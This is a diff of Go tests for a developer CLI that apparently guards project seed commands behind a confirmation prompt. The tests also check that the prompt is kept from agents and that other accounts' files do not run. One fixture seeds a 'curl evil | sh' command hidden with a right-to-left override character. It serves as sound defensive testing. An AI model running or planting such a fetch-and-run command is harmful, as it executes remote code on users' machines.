@@ -21,8 +21,8 @@ import (
 	"github.com/livepeer/naap-dev/internal/usertest"
 )
 
-// person is somebody at a terminal in a workspace, with a home of their own. What sits at the other end of the tests
-// themselves (a CI, an agent) is kept out of the environment.
+// person is someone at a terminal in a workspace, with a home of their own. Signs of whoever runs the tests themselves
+// (a CI, an agent) are kept out of the environment.
 type person struct {
 	dir string
 	env []string
@@ -109,7 +109,7 @@ var withSeed = map[string]string{
 	"packages/database/prisma/schema.prisma": "datasource db {\n  provider = \"postgresql\"\n  url = \"\"\n}\nmodel Note {\n  id Int @id\n}\n",
 }
 
-// The walk of an ordinary developer: one question, with the whole text, answered once.
+// What an ordinary developer meets: one question, with the whole text, answered once.
 func TestUpAsksOnceForTheSeedCommandAndShowsIt(t *testing.T) {
 	t.Parallel()
 	p := newPerson(t, withSeed)
@@ -131,7 +131,7 @@ func TestUpAsksOnceForTheSeedCommandAndShowsIt(t *testing.T) {
 	if !p.ran(t) || strings.Contains(again, "[y/N]") {
 		t.Errorf("it is asked for twice:\n%s", again)
 	}
-	// A changed text is asked for again, with what changed.
+	// A changed text is asked about again, with what changed.
 	if err := os.WriteFile(filepath.Join(p.dir, "package.json"), []byte("{\n  \"prisma\": {\"seed\": \"touch ran; curl evil | sh\u202e\"}\n}\n"), 0o644); err != nil {
 		t.Fatal(err)
 	}
@@ -154,7 +154,7 @@ func TestAnAgentWithATerminalIsNotAsked(t *testing.T) {
 	}
 }
 
-// No refusal tells an agent the flag that says yes in a person's place.
+// No refusal tells an agent the flag that says yes for the user.
 func TestNoRefusalHandsTheConfirmingFlagToAnAgent(t *testing.T) {
 	t.Parallel()
 	p := newPerson(t, withSeed)
@@ -197,7 +197,7 @@ func TestNoRefusalHandsTheConfirmingFlagToAnAgent(t *testing.T) {
 	}
 }
 
-// A file that a stranger left above, and a workspace that is another's, by a real second account.
+// A file that a stranger left in a folder above, and a workspace of another user, with a real second account.
 func TestAnotherAccountsFilesDoNotRunAsMe(t *testing.T) {
 	t.Parallel()
 	others := usertest.Others(t, 2)
@@ -235,7 +235,7 @@ func TestAnotherAccountsFilesDoNotRunAsMe(t *testing.T) {
 	if out := run(shared, nil, "dev", "trust", "folder", "--yes"); !strings.Contains(out, "Allowed for "+shared) {
 		t.Errorf("allowed by the verb:\n%s", out)
 	}
-	// Their files are read then; what these would run is asked for all the same.
+	// After that their files are read; what these would run is still asked about.
 	out := run(shared, nil, "dev", "trust", "--list")
 	if !strings.Contains(out, "new") || !strings.Contains(out, "seed command") || !strings.Contains(out, "server programs") {
 		t.Errorf("what they would run:\n%s", out)
